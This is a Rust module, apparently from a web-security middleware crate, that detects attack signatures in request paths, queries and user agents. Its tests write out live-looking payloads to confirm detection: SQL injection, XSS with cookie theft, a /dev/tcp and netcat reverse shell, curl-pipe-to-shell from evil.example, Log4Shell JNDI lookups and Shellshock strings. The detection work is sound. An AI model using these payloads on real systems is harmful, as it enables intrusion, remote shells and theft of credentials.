@@ -1,0 +1,841 @@
+//! Request inspection with pattern packs, in linear time.
+//!
+//! Before the handler runs, the layer hands the request's path, query and `User-Agent` to an
+//! [`Inspector`], which reports which [`Pack`]s matched. A pack is a named list of
+//! case-insensitive regular expressions and literal substrings over some [`Field`]s; the
+//! [built-in packs](builtin_packs) cover scanner user agents, sensitive-file probes,
+//! traversal, SQL injection, XSS, command injection, template injection, Log4Shell and
+//! Shellshock.
+//!
+//! # Normalisation
+//!
+//! The path and query are decoded once: percent escapes (and `%uXXXX`), `+` as a space in the
+//! query, a second layer only for double-encoded `.`, `/`, `\` and `%`, overlong and full-width
+//! forms of those separators folded to ASCII, and backslashes turned into `/`. The
+//! `User-Agent` is matched as sent. When a field contains nothing to decode it is borrowed,
+//! so a benign request is inspected without allocating.
+//!
+//! # Cost
+//!
+//! Every pattern and every (escaped) literal that applies to a field is compiled into one
+//! [`regex::bytes::RegexSet`], so each field is scanned exactly once, in time linear in its
+//! length: the `regex` crate has no backtracking engine, and its lazy DFA costs about the same
+//! per byte whether the set holds ten patterns or a hundred. (A separate Aho-Corasick pass for
+//! the literals was measured at more than the whole set costs on a browser user agent, so the
+//! literals ride along in the set.) Only when the set reports a match is the individual pattern
+//! run again, to extract a [`Hit::sample`].
+//!
+//! # Precision
+//!
+//! A false positive blocks a real user. The built-in patterns ask for the structure of an
+//! attack, not for a keyword: `o'neill`, `union made`, `select fit jeans`, `1=1 math`,
+//! `what is <b>bold</b>` and `curl/8.4.0` all pass.
+
+mod decode;
+mod packs;
+
+use std::borrow::Cow;
+use std::fmt;
+use std::sync::{Arc, OnceLock};
+
+use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use serde::{Deserialize, Serialize};
+
+pub use packs::builtin_packs;
+
+/// The part of a request a pattern is matched against.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Field {
+    /// The request path, percent-decoded.
+    Path,
+    /// The query string without `?`, form-decoded.
+    Query,
+    /// The `User-Agent` header, as sent.
+    UserAgent,
+}
+
+impl Field {
+    const ALL: [Field; 3] = [Field::Path, Field::Query, Field::UserAgent];
+
+    /// The snake-case name used in configuration: `path`, `query`, `user_agent`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Field::Path => "path",
+            Field::Query => "query",
+            Field::UserAgent => "user_agent",
+        }
+    }
+}
+
+impl fmt::Display for Field {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// One pattern pack: a named list of case-insensitive regexes and/or literal substrings over
+/// some fields.
+///
+/// Patterns use the [`regex`] syntax with ASCII-only classes (`\w`, `\s`, `\b`) and are
+/// matched against bytes, case-insensitively. Literals are plain substrings, ASCII
+/// case-insensitive. Packs deserialise from configuration:
+///
+/// ```
+/// # use tower_siem::signature::Pack;
+/// let pack: Pack = serde_json::from_str(
+///     r#"{"id": "legacy_admin", "fields": ["path"], "literals": ["/old-admin/"]}"#,
+/// ).unwrap();
+/// assert!(pack.patterns.is_empty());
+/// ```
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct Pack {
+    /// The pack's name, reported in every [`Hit`]; unique within an [`Inspector`].
+    pub id: String,
+    /// The fields the pack looks at.
+    pub fields: Vec<Field>,
+    /// Regular expressions.
+    #[serde(default)]
+    pub patterns: Vec<String>,
+    /// Literal substrings, ASCII case-insensitive.
+    #[serde(default)]
+    pub literals: Vec<String>,
+}
+
+/// A pack that matched a request.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Hit {
+    /// The id of the pack.
+    pub pack: Arc<str>,
+    /// The first field (in the order path, query, user agent) in which the pack matched.
+    pub field: Field,
+    /// The matched text, at most 80 chars, control chars escaped.
+    pub sample: String,
+}
+
+/// What went wrong in [`Inspector::new`].
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum SignatureErrorKind {
+    /// A pattern is not a valid regular expression, or a pattern or literal is too large.
+    InvalidPattern,
+    /// Two packs share an id.
+    DuplicatePack,
+    /// A pack names no field to look at.
+    NoFields,
+}
+
+/// A pack that could not be compiled. Names the pack and, for a bad regex, the pattern and the
+/// regex error text.
+#[derive(Debug)]
+#[non_exhaustive]
+pub struct SignatureError {
+    kind: SignatureErrorKind,
+    pack: String,
+    pattern: Option<String>,
+    source: Option<Box<dyn std::error::Error + Send + Sync + 'static>>,
+}
+
+impl SignatureError {
+    fn new(kind: SignatureErrorKind, pack: &str) -> Self {
+        SignatureError {
+            kind,
+            pack: pack.to_owned(),
+            pattern: None,
+            source: None,
+        }
+    }
+
+    /// What went wrong.
+    pub fn kind(&self) -> SignatureErrorKind {
+        self.kind
+    }
+
+    /// The id of the offending pack.
+    pub fn pack(&self) -> &str {
+        &self.pack
+    }
+
+    /// The offending pattern, for [`SignatureErrorKind::InvalidPattern`].
+    pub fn pattern(&self) -> Option<&str> {
+        self.pattern.as_deref()
+    }
+}
+
+impl fmt::Display for SignatureError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self.kind {
+            SignatureErrorKind::InvalidPattern => write!(
+                f,
+                "pack `{}`: invalid pattern `{}`",
+                self.pack,
+                self.pattern.as_deref().unwrap_or_default()
+            )?,
+            SignatureErrorKind::DuplicatePack => {
+                write!(f, "pack `{}` is defined twice", self.pack)?
+            }
+            SignatureErrorKind::NoFields => write!(f, "pack `{}` names no field", self.pack)?,
+        }
+        if let Some(source) = &self.source {
+            write!(f, ": {source}")?;
+        }
+        Ok(())
+    }
+}
+
+impl std::error::Error for SignatureError {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        self.source
+            .as_deref()
+            .map(|e| e as &(dyn std::error::Error + 'static))
+    }
+}
+
+/// Compiled packs. Cheap to clone (an `Arc` inside), `Send + Sync`.
+///
+/// ```
+/// use tower_siem::signature::{Field, Inspector};
+///
+/// let inspector = Inspector::builtin();
+///
+/// // A benign request: no hits, and no allocation.
+/// let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
+///               (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
+/// assert!(inspector.inspect("/api/products/42", Some("page=2&sort=price"), Some(chrome)).is_empty());
+///
+/// // A double-encoded traversal probe.
+/// let hits = inspector.inspect("/static/..%252f..%252fetc%252fpasswd", None, Some("curl/8.4.0"));
+/// assert_eq!(&*hits[0].pack, "sensitive_file");
+/// assert!(hits.iter().any(|h| &*h.pack == "traversal" && h.field == Field::Path));
+/// ```
+#[derive(Clone)]
+pub struct Inspector {
+    inner: Arc<Inner>,
+}
+
+struct Inner {
+    ids: Vec<Arc<str>>,
+    /// Per pack, its patterns and then its escaped literals, compiled one by one to extract a
+    /// sample after the set matched.
+    regexes: Vec<Vec<Regex>>,
+    fields: Vec<FieldMatcher>,
+}
+
+/// Everything that looks at one field: the patterns and literals of all packs over it, with
+/// (pack, index into that pack's `regexes`) per set index.
+struct FieldMatcher {
+    field: Field,
+    set: RegexSet,
+    map: Vec<(usize, usize)>,
+}
+
+impl Inspector {
+    /// The [built-in packs](builtin_packs), compiled once per process and shared.
+    pub fn builtin() -> Self {
+        static BUILTIN: OnceLock<Inspector> = OnceLock::new();
+        BUILTIN
+            .get_or_init(|| Inspector::new(builtin_packs()).expect("built-in packs compile"))
+            .clone()
+    }
+
+    /// Compiles packs. Hits are reported in the order of `packs`.
+    ///
+    /// # Errors
+    ///
+    /// If a pattern is not a valid regex (the error names the pack, the pattern and the regex
+    /// error), if the packs together are too large, if two packs share an id, or if a pack names no
+    /// field.
+    pub fn new(packs: Vec<Pack>) -> Result<Self, SignatureError> {
+        let mut ids: Vec<Arc<str>> = Vec::with_capacity(packs.len());
+        let mut sources: Vec<Vec<String>> = Vec::with_capacity(packs.len());
+        let mut regexes = Vec::with_capacity(packs.len());
+        for pack in &packs {
+            if ids.iter().any(|id| **id == *pack.id) {
+                return Err(SignatureError::new(
+                    SignatureErrorKind::DuplicatePack,
+                    &pack.id,
+                ));
+            }
+            if pack.fields.is_empty() {
+                return Err(SignatureError::new(SignatureErrorKind::NoFields, &pack.id));
+            }
+            let source: Vec<String> = pack
+                .patterns
+                .iter()
+                .cloned()
+                .chain(
+                    pack.literals
+                        .iter()
+                        .filter(|l| !l.is_empty())
+                        .map(|l| regex::escape(l)),
+                )
+                .collect();
+            let compiled = source
+                .iter()
+                .map(|p| {
+                    regex_builder(p).build().map_err(|e| SignatureError {
+                        pattern: Some(p.clone()),
+                        source: Some(Box::new(e)),
+                        ..SignatureError::new(SignatureErrorKind::InvalidPattern, &pack.id)
+                    })
+                })
+                .collect::<Result<Vec<_>, _>>()?;
+            ids.push(Arc::from(pack.id.as_str()));
+            sources.push(source);
+            regexes.push(compiled);
+        }
+
+        let mut fields = Vec::new();
+        for field in Field::ALL {
+            let mut set_patterns = Vec::new();
+            let mut map = Vec::new();
+            for (i, pack) in packs.iter().enumerate() {
+                if pack.fields.contains(&field) {
+                    for (j, p) in sources[i].iter().enumerate() {
+                        set_patterns.push(p.as_str());
+                        map.push((i, j));
+                    }
+                }
+            }
+            if set_patterns.is_empty() {
+                continue;
+            }
+            let set = set_builder(&set_patterns).build().map_err(|e| {
+                // Every pattern compiled alone, so together they exceed the size limit; name
+                // the last pack, the one that tipped it over.
+                let pack = map.last().map_or("", |&(i, _)| packs[i].id.as_str());
+                SignatureError {
+                    source: Some(Box::new(e)),
+                    ..SignatureError::new(SignatureErrorKind::InvalidPattern, pack)
+                }
+            })?;
+            fields.push(FieldMatcher { field, set, map });
+        }
+        Ok(Inspector {
+            inner: Arc::new(Inner {
+                ids,
+                regexes,
+                fields,
+            }),
+        })
+    }
+
+    /// The ids of the packs, in the order hits are reported.
+    pub fn pack_ids(&self) -> impl Iterator<Item = &str> {
+        self.inner.ids.iter().map(|id| &**id)
+    }
+
+    /// Inspects one request.
+    ///
+    /// `path` is the raw (percent-encoded) path, `query` the raw query without `?`. Returns at
+    /// most one [`Hit`] per pack (for the first field that matched, in the order path, query,
+    /// user agent), in pack order. Does not allocate when no field needs decoding and nothing
+    /// matches.
+    pub fn inspect(&self, path: &str, query: Option<&str>, user_agent: Option<&str>) -> Vec<Hit> {
+        let mut found: Vec<(usize, Hit)> = Vec::new();
+        for matcher in &self.inner.fields {
+            let text: Cow<'_, [u8]> = match matcher.field {
+                Field::Path => decode::normalise(path, false),
+                Field::Query => match query {
+                    Some(q) if !q.is_empty() => decode::normalise(q, true),
+                    _ => continue,
+                },
+                Field::UserAgent => match user_agent {
+                    Some(ua) if !ua.is_empty() => Cow::Borrowed(ua.as_bytes()),
+                    _ => continue,
+                },
+            };
+            self.inspect_field(matcher, &text, &mut found);
+        }
+        found.sort_unstable_by_key(|(i, _)| *i);
+        found.into_iter().map(|(_, hit)| hit).collect()
+    }
+
+    fn inspect_field(&self, matcher: &FieldMatcher, text: &[u8], found: &mut Vec<(usize, Hit)>) {
+        // `is_match` first: `matches` allocates, and benign requests never get past this.
+        if !matcher.set.is_match(text) {
+            return;
+        }
+        for index in matcher.set.matches(text).iter() {
+            let (pack, source) = matcher.map[index];
+            if found.iter().any(|(i, _)| *i == pack) {
+                continue;
+            }
+            if let Some(m) = self.inner.regexes[pack][source].find(text) {
+                found.push((pack, self.hit(pack, matcher.field, m.as_bytes())));
+            }
+        }
+    }
+
+    fn hit(&self, pack: usize, field: Field, matched: &[u8]) -> Hit {
+        Hit {
+            pack: Arc::clone(&self.inner.ids[pack]),
+            field,
+            sample: sample(matched),
+        }
+    }
+}
+
+impl Default for Inspector {
+    fn default() -> Self {
+        Inspector::builtin()
+    }
+}
+
+impl fmt::Debug for Inspector {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("Inspector")
+            .field("packs", &self.inner.ids)
+            .finish_non_exhaustive()
+    }
+}
+
+/// Patterns match bytes: the decoded text need not be UTF-8, and ASCII classes keep the
+/// automata small and fast.
+fn regex_builder(pattern: &str) -> RegexBuilder {
+    let mut b = RegexBuilder::new(pattern);
+    b.case_insensitive(true).unicode(false);
+    b
+}
+
+fn set_builder(patterns: &[&str]) -> RegexSetBuilder {
+    let mut b = RegexSetBuilder::new(patterns);
+    b.case_insensitive(true).unicode(false);
+    b
+}
+
+const SAMPLE_CHARS: usize = 80;
+
+/// The matched text for a report: lossy UTF-8, control characters escaped as in
+/// [`crate::event::escape_control`], at most [`SAMPLE_CHARS`] characters.
+fn sample(matched: &[u8]) -> String {
+    let text = String::from_utf8_lossy(matched);
+    let mut out = String::with_capacity(text.len().min(SAMPLE_CHARS * 2));
+    let mut chars = 0;
+    for c in text.chars() {
+        let escaped: Cow<'static, str> = match c {
+            '\n' => "\\n".into(),
+            '\r' => "\\r".into(),
+            '\t' => "\\t".into(),
+            c if c.is_control() || c == '\u{2028}' || c == '\u{2029}' => {
+                format!("\\u{{{:x}}}", c as u32).into()
+            }
+            c => {
+                if chars + 1 > SAMPLE_CHARS {
+                    break;
+                }
+                out.push(c);
+                chars += 1;
+                continue;
+            }
+        };
+        if chars + escaped.len() > SAMPLE_CHARS {
+            break;
+        }
+        out.push_str(&escaped);
+        chars += escaped.len();
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn packs_hit(path: &str, query: Option<&str>, ua: Option<&str>) -> Vec<String> {
+        Inspector::builtin()
+            .inspect(path, query, ua)
+            .into_iter()
+            .map(|h| h.pack.to_string())
+            .collect()
+    }
+
+    fn assert_catches(pack: &str, cases: &[(&str, Option<&str>, Option<&str>)]) {
+        for (path, query, ua) in cases {
+            let hits = packs_hit(path, *query, *ua);
+            assert!(
+                hits.iter().any(|h| h == pack),
+                "{pack} missed path={path:?} query={query:?} ua={ua:?}; got {hits:?}"
+            );
+        }
+    }
+
+    const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
+
+    #[test]
+    fn builtin_ids_in_order() {
+        let inspector = Inspector::builtin();
+        let ids: Vec<&str> = inspector.pack_ids().collect();
+        assert_eq!(
+            ids,
+            [
+                "scanner_ua",
+                "sensitive_file",
+                "traversal",
+                "sqli",
+                "xss",
+                "cmdi",
+                "ssti",
+                "log4shell",
+                "shellshock"
+            ]
+        );
+    }
+
+    #[test]
+    fn benign_request_has_no_hits_and_borrows() {
+        assert!(packs_hit("/api/products/42", Some("page=2&sort=price"), Some(CHROME)).is_empty());
+        for q in [
+            "q=o%27neill",
+            "q=select+fit+jeans",
+            "q=union+made",
+            "q=drop+shipping",
+            "q=and+or",
+            "q=1%3D1+math",
+            "q=rock+%26+roll",
+            "q=C%2B%2B+tutorial",
+            "q=what+is+%3Cb%3Ebold%3C%2Fb%3E",
+            "q=JavaScript%3A+The+Good+Parts",
+            "q=List%3CObject%3E",
+            "email=jane.doe%40example.com",
+            "max=%245&off=50%25",
+        ] {
+            assert!(
+                packs_hit("/search", Some(q), Some(CHROME)).is_empty(),
+                "{q}"
+            );
+        }
+    }
+
+    #[test]
+    fn scanner_ua() {
+        let uas = [
+            "sqlmap/1.7.2#stable (https://sqlmap.org)",
+            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            "Fuzz Faster U Fool v2.1.0-dev",
+            "gobuster/3.6",
+            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+            "Mozilla/4.0 (Hydra)",
+            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+        ];
+        for ua in uas {
+            assert_catches("scanner_ua", &[("/", None, Some(ua))]);
+        }
+        for ua in [
+            "curl/8.4.0",
+            "python-requests/2.31.0",
+            "Go-http-client/1.1",
+            "okhttp/4.12.0",
+        ] {
+            assert!(packs_hit("/", None, Some(ua)).is_empty(), "{ua}");
+        }
+    }
+
+    #[test]
+    fn sensitive_file() {
+        assert_catches(
+            "sensitive_file",
+            &[
+                ("/.env", None, None),
+                ("/api/.env.production", None, None),
+                ("/.git/config", None, None),
+                ("/%2egit/HEAD", None, None),
+                ("/.DS_Store", None, None),
+                ("/index.php.bak", None, None),
+                ("/backup.tar.gz", None, None),
+                ("/wp-login.php", None, None),
+                ("/.aws/credentials", None, None),
+                ("/actuator/env", None, None),
+                ("/debug/pprof/", None, None),
+            ],
+        );
+        for p in [
+            "/blog/2024/03/env-vars-explained",
+            "/backup-policy",
+            "/docs/git-tutorial",
+            "/actuator/health",
+            "/static/app.3f2a.js",
+        ] {
+            assert!(packs_hit(p, None, None).is_empty(), "{p}");
+        }
+    }
+
+    #[test]
+    fn traversal() {
+        assert_catches(
+            "traversal",
+            &[
+                ("/static/..%2f..%2f..%2fetc/passwd", None, None),
+                ("/static/%2e%2e/%2e%2e/secret", None, None),
+                ("/static/..%252f..%252fapp.db", None, None),
+                ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x", None, None),
+                ("/download", Some("file=..\\..\\windows\\win.ini"), None),
+                ("/download", Some("file=..%5c..%5cboot.ini"), None),
+                ("/view", Some("page=../config.yml"), None),
+                ("/view", Some("page=....//....//etc/passwd"), None),
+                ("/view", Some("f=%25c0%25ae%25c0%25ae/"), None),
+            ],
+        );
+    }
+
+    #[test]
+    fn sqli() {
+        assert_catches(
+            "sqli",
+            &[
+                ("/login", Some("user=admin%27--"), None),
+                ("/items", Some("id=1%27+OR+%271%27%3D%271"), None),
+                ("/items", Some("id=1+or+1%3D1"), None),
+                ("/items", Some("id=-1+UNION+ALL+SELECT+NULL,NULL--"), None),
+                ("/items", Some("id=1/**/union/**/select/**/1,2,3"), None),
+                ("/items", Some("id=1%3B+DROP+TABLE+users"), None),
+                ("/items", Some("id=1+AND+SLEEP(5)"), None),
+                (
+                    "/items",
+                    Some("id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--"),
+                    None,
+                ),
+                (
+                    "/items",
+                    Some(
+                        "q=x%27%20union%20select%20table_name%20from%20information_schema.tables--",
+                    ),
+                    None,
+                ),
+                ("/items", Some("id=1;waitfor+delay+%270:0:5%27"), None),
+                ("/", None, Some("Mozilla/5.0' or sleep(10)#")),
+            ],
+        );
+    }
+
+    #[test]
+    fn xss() {
+        assert_catches(
+            "xss",
+            &[
+                ("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"), None),
+                (
+                    "/search",
+                    Some("q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
+                    None,
+                ),
+                (
+                    "/search",
+                    Some("q=%3Csvg/onload=alert(document.domain)%3E"),
+                    None,
+                ),
+                ("/go", Some("next=javascript:alert(1)"), None),
+                ("/search", Some("q=%22+onmouseover%3D%22alert(1)"), None),
+                ("/go", Some("u=data:text/html;base64,PHNjcmlwdD4="), None),
+                ("/search", Some("q=%3Ciframe+src%3D//evil.example%3E"), None),
+                (
+                    "/",
+                    None,
+                    Some("<script>fetch('//x/'+document.cookie)</script>"),
+                ),
+            ],
+        );
+    }
+
+    #[test]
+    fn cmdi() {
+        assert_catches(
+            "cmdi",
+            &[
+                ("/ping", Some("host=127.0.0.1%3Bcat+/etc/passwd"), None),
+                ("/ping", Some("host=127.0.0.1|whoami"), None),
+                (
+                    "/ping",
+                    Some("host=x%26%26curl+http://evil.example/x.sh|sh"),
+                    None,
+                ),
+                ("/ping", Some("host=%24(id)"), None),
+                ("/ping", Some("host=`whoami`"), None),
+                ("/ping", Some("host=x;cat${IFS}/etc/passwd"), None),
+                ("/ping", Some("host=x%0aid;"), None),
+                (
+                    "/ping",
+                    Some("cmd=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261"),
+                    None,
+                ),
+                (
+                    "/",
+                    None,
+                    Some("() { :; }; /bin/bash -c 'nc -e /bin/sh 10.0.0.1 4444'"),
+                ),
+            ],
+        );
+    }
+
+    #[test]
+    fn ssti() {
+        assert_catches(
+            "ssti",
+            &[
+                ("/hello", Some("name=%7B%7B7*7%7D%7D"), None),
+                ("/hello", Some("name=%24%7B7*7%7D"), None),
+                ("/hello", Some("name=%23%7B7*7%7D"), None),
+                ("/hello", Some("name=<%25%3D+7*7+%25>"), None),
+                (
+                    "/hello",
+                    Some("name={{''.__class__.__mro__[1].__subclasses__()}}"),
+                    None,
+                ),
+                ("/hello", Some("name={{config.items()}}"), None),
+                (
+                    "/hello",
+                    Some("name=${T(java.lang.Runtime).getRuntime().exec('id')}"),
+                    None,
+                ),
+                ("/hello/%7B%7B7*'7'%7D%7D", None, None),
+            ],
+        );
+    }
+
+    #[test]
+    fn log4shell() {
+        assert_catches(
+            "log4shell",
+            &[
+                ("/", None, Some("${jndi:ldap://evil.example/a}")),
+                (
+                    "/",
+                    Some("x=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D"),
+                    None,
+                ),
+                (
+                    "/",
+                    None,
+                    Some("${${lower:j}ndi:${lower:l}dap://evil.example/a}"),
+                ),
+                (
+                    "/",
+                    None,
+                    Some("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"),
+                ),
+                ("/", None, Some("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}")),
+                ("/${jndi:dns://x.example/a}", None, None),
+                ("/", Some("q=${env:AWS_SECRET_ACCESS_KEY}"), None),
+            ],
+        );
+    }
+
+    #[test]
+    fn shellshock() {
+        assert_catches(
+            "shellshock",
+            &[
+                (
+                    "/cgi-bin/status",
+                    None,
+                    Some("() { :; }; echo; /bin/cat /etc/passwd"),
+                ),
+                ("/", None, Some("() { :;}; /bin/bash -c \"sleep 5\"")),
+                ("/", None, Some("() { _; } >_[$($())] { echo hi; }")),
+                ("/", Some("x=()+%7B+%3A%3B+%7D%3B+id"), None),
+            ],
+        );
+    }
+
+    #[test]
+    fn one_hit_per_pack_in_pack_order_with_first_field() {
+        let hits = Inspector::builtin().inspect(
+            "/search",
+            Some("q=%3Cscript%3E&u=javascript:alert(1)"),
+            Some("<script>sqlmap</script>"),
+        );
+        let summary: Vec<(&str, Field)> = hits.iter().map(|h| (&*h.pack, h.field)).collect();
+        assert_eq!(
+            summary,
+            [("scanner_ua", Field::UserAgent), ("xss", Field::Query)]
+        );
+        assert_eq!(hits[1].sample, "<script");
+    }
+
+    #[test]
+    fn samples_are_short_and_escaped() {
+        assert_eq!(sample(b"a\nb\x01"), "a\\nb\\u{1}");
+        assert_eq!(sample(&[b'x'; 200]).chars().count(), SAMPLE_CHARS);
+        assert_eq!(sample(&[b'\x01'; 200]), "\\u{1}".repeat(16));
+        let hits = Inspector::builtin().inspect("/", Some("q=%3Cscript%0A%3E"), None);
+        assert_eq!(hits[0].sample, "<script");
+    }
+
+    #[test]
+    fn custom_packs_and_literals() {
+        let inspector = Inspector::new(vec![Pack {
+            id: "legacy".into(),
+            fields: vec![Field::Path, Field::UserAgent],
+            patterns: vec![r"^/old-admin\b".into()],
+            literals: vec!["EvilBot".into()],
+        }])
+        .unwrap();
+        let hits = inspector.inspect("/OLD-ADMIN/users", None, Some("x evilbot/1"));
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].field, Field::Path);
+        assert_eq!(hits[0].sample, "/OLD-ADMIN");
+        let hits = inspector.inspect("/", Some("evilbot"), Some("x EVILBOT/1"));
+        assert_eq!(
+            (hits[0].field, hits[0].sample.as_str()),
+            (Field::UserAgent, "EVILBOT")
+        );
+    }
+
+    #[test]
+    fn bad_regex_names_pack_and_pattern() {
+        let err = Inspector::new(vec![
+            Pack {
+                id: "fine".into(),
+                fields: vec![Field::Query],
+                patterns: vec!["abc".into()],
+                literals: vec![],
+            },
+            Pack {
+                id: "broken".into(),
+                fields: vec![Field::Path],
+                patterns: vec!["ok".into(), "(unclosed".into()],
+                literals: vec![],
+            },
+        ])
+        .unwrap_err();
+        assert_eq!(err.kind(), SignatureErrorKind::InvalidPattern);
+        assert_eq!(err.pack(), "broken");
+        assert_eq!(err.pattern(), Some("(unclosed"));
+        let text = err.to_string();
+        assert!(
+            text.contains("broken") && text.contains("(unclosed"),
+            "{text}"
+        );
+        assert!(text.contains("unclosed group"), "{text}");
+        assert!(std::error::Error::source(&err).is_some());
+    }
+
+    #[test]
+    fn duplicate_and_fieldless_packs_are_refused() {
+        let p = |id: &str, fields: Vec<Field>| Pack {
+            id: id.into(),
+            fields,
+            patterns: vec!["x".into()],
+            literals: vec![],
+        };
+        let err = Inspector::new(vec![p("a", vec![Field::Path]), p("a", vec![Field::Query])])
+            .unwrap_err();
+        assert_eq!(err.kind(), SignatureErrorKind::DuplicatePack);
+        let err = Inspector::new(vec![p("b", vec![])]).unwrap_err();
+        assert_eq!(
+            (err.kind(), err.pack()),
+            (SignatureErrorKind::NoFields, "b")
+        );
+    }
+
+    #[test]
+    fn inspector_is_send_sync_and_pack_serde_round_trips() {
+        fn assert_send_sync<T: Send + Sync + Clone>() {}
+        assert_send_sync::<Inspector>();
+        let json = serde_json::to_string(&builtin_packs()[0]).unwrap();
+        assert!(json.contains(r#""fields":["user_agent"]"#), "{json}");
+        let back: Pack = serde_json::from_str(&json).unwrap();
+        assert_eq!(back.id, "scanner_ua");
+    }
+}
